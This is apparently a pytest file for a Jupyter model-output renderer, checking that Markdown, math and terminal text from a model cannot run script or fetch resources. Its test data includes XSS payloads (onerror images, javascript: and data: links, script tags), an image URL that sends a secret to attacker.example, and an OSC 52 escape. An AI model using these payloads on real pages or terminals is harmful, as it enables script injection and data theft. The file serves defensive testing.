"""Model text becomes HTML through a parser and an allowlist: nothing it contains can run, fetch or navigate.

Each payload below is one the old regex-escaping renderer let through (issue 8); the check is an independent HTML
parser over what the toolkit publishes, and over the Markdown fallback as a trusted HTML-enabled renderer shows it.
"""

from __future__ import annotations

import pytest

from qwen_jupyter.core.errors import QwenError
from qwen_jupyter.core.events import (
    Failed,
    Finished,
    ReasoningDelta,
    SearchResult,
    SearchResults,
    Started,
    TextDelta,
    ToolCallDelta,
    Usage,
)
from qwen_jupyter.core.result import QwenResult
from qwen_jupyter.core.text import printable
from qwen_jupyter.views.html import markdown_html
from qwen_jupyter.views.layout import final_bundle

from .safety import as_trusted_markdown, problems, tags, text

IMG = "<img src=x onerror=alert(1)>"
FOUND_BY_THE_ATTACKER = {
    "unclosed fence mid-line": f"text ``` mid-line {IMG}",
    "escaped backtick before html": f"\\`{IMG}`",
    "fence info with a backtick": f"```py`x\n{IMG}\n```",
    "fence inside indented code": f"    code\n    ```\n\n{IMG}",
    "escaped colon in a link": "[x](javascript\\:alert(1))",
    "reference in a list item": "- item\n\n  [r]: javascript:alert(1)\n\n  [r]",
    "reference with escaped colon": "[r]\n\n[r]: javascript\\:alert(1)",
    "entity in the scheme": "[x](jav&#x61;script:alert(1))",
    "remote image": "![t](http://attacker.example/?q=secret)",
    "relative image": "![t](files/secret.png) ![u](/api/contents)",
    "raw html": "<script>alert(1)</script><svg onload=alert(1)><iframe src=//x></iframe>",
    "html link": "<a href='javascript:alert(1)'>x</a>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "relative link": "[x](../../api/kernels) [y](/lab/tree/x.ipynb)",
}


@pytest.mark.parametrize("payload", FOUND_BY_THE_ATTACKER.values(), ids=FOUND_BY_THE_ATTACKER.keys())
def test_model_markdown_renders_inert(payload):
    html = markdown_html(payload)
    assert problems(html) == []
    assert not any(tag == "img" for tag, _ in tags(html))


def _result(text="", reasoning="", calls=(), sources=(), error=None):
    events = [Started("qwen-plus", "req-1")]
    if reasoning:
        events.append(ReasoningDelta(reasoning))
    if text:
        events.append(TextDelta(text))
    events += [ToolCallDelta(i, f"call_{i}", name, args) for i, (name, args) in enumerate(calls)]
    if sources:
        events.append(SearchResults(tuple(SearchResult(i, title, url) for i, (title, url) in enumerate(sources, 1))))
    events.append(Usage(1, 2, 3))
    events.append(Failed(error) if error else Finished("stop"))
    return QwenResult(events)


@pytest.mark.parametrize("payload", FOUND_BY_THE_ATTACKER.values(), ids=FOUND_BY_THE_ATTACKER.keys())
def test_every_field_a_model_controls_is_inert_in_the_final_output(payload, reliability):
    hostile = f"{payload}\n\n[x](javascript:alert(1))\n\n{IMG}"
    result = _result(text=hostile, reasoning=hostile, calls=[(hostile, hostile)],
                     sources=[(hostile, "https://example.com/a"), ("t", "javascript:alert(1)")],
                     error=QwenError(hostile, code=hostile, request_id=hostile))
    bundle = final_bundle(result)
    found = problems(bundle["text/html"]) + problems(as_trusted_markdown(bundle["text/markdown"]))
    reliability.add("Hostile payloads", "final cell output, parsed (answer, reasoning, tools, sources, error)",
                    tried=1, failed=int(bool(found)))
    assert found == []
    assert "javascript:alert(1)" in text(bundle["text/html"])  # shown as text, not acted on


def test_the_markdown_fallback_is_one_raw_block_that_no_blank_line_can_end():
    result = _result(text="```\nline\n\n\n<script>x()</script>\n```\n\n<b>bold?</b>")
    markdown = final_bundle(result)["text/markdown"]
    assert "\n" not in markdown and markdown.startswith("<div")
    assert as_trusted_markdown(markdown).strip() == markdown  # passed through whole, not re-read as Markdown


def test_terminal_control_characters_never_reach_plain_text():
    osc52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
    result = _result(text=f"hello {osc52}\x1b[2J\x9b31m world")
    shown = final_bundle(result)["text/plain"]
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert printable("tab\tand\nnewline") == "tab\tand\nnewline"


def test_markdown_still_formats_and_math_is_kept_for_the_typesetter():
    html = markdown_html("**bold** and `a<b`\n\n```python\nif a < b: print('<ok>')\n```\n\n"
                         "math \\(a < b\\), \\[x^2 > 0\\] and $c<d$; it costs $5 and $10.\n\n| a |\n|---|\n| 1 |")
    assert ("strong", {}) in tags(html) and ("table", {}) in tags(html)
    shown = text(html)
    assert "if a < b: print('<ok>')" in shown and "a<b" in shown
    assert "\\(a < b\\)" in shown and "\\[x^2 > 0\\]" in shown and "\\(c<d\\)" in shown
    assert "costs $5 and $10." in shown  # prices are not math
    math = [attrs for tag, attrs in tags(html) if attrs.get("class") == "tex2jax_process mathjax_process"]
    assert len(math) == 3


@pytest.mark.parametrize("tex", ["\\href{javascript:alert(1)}{x}", "\\class{jp-Dialog}{x}", "\\style{color:red}{x}",
                                 "\\cssId{x}{y}", "\\unicode{x41}", "\\require{html}", "\\url{http://x}"])
def test_math_that_could_link_style_or_fetch_is_shown_as_code(tex):
    for source in (f"${tex}$", f"\\({tex}\\)", f"\\[{tex}\\]", f"$$\n{tex}\n$$"):
        html = markdown_html(source)
        assert "mathjax_process" not in html, source
        assert ("code", {}) in tags(html)


def test_images_load_only_from_hosts_named_by_the_person():
    source = "![a](https://img.example.com/a.png) ![b](https://other.example/b.png) ![c](http://img.example.com/c.png)"
    assert [t for t, _ in tags(markdown_html(source)) if t == "img"] == []
    html = markdown_html(source, image_hosts={"img.example.com"})
    images = [attrs["src"] for tag, attrs in tags(html) if tag == "img"]
    assert images == ["https://img.example.com/a.png"]  # https only, that host only
    assert problems(html, frozenset({"img.example.com"})) == []


def test_sources_a_service_numbered_oddly_are_listed_not_crashed_on():
    from qwen_jupyter.core.events import SearchResults

    sources = SearchResults.parse([{"index": "one", "title": "Alpha", "url": "https://a.example/"},
                                   {"index": "7", "title": 5, "url": "https://b.example/"}, "junk",
                                   {"index": 2**70, "title": "Gamma", "url": None}, {"index": True, "title": "D"}])
    assert [(s.index, s.title, s.url) for s in sources.results] == [
        (1, "Alpha", "https://a.example/"), (7, "", "https://b.example/"), (4, "Gamma", ""), (5, "D", "")]
    result = QwenResult([Started("qwen-plus", "r1"), TextDelta("See [1] and [7]."), sources, Finished("stop")])
    shown = final_bundle(result)["text/html"]
    assert 'href="https://a.example/"' in shown and "Gamma" in shown
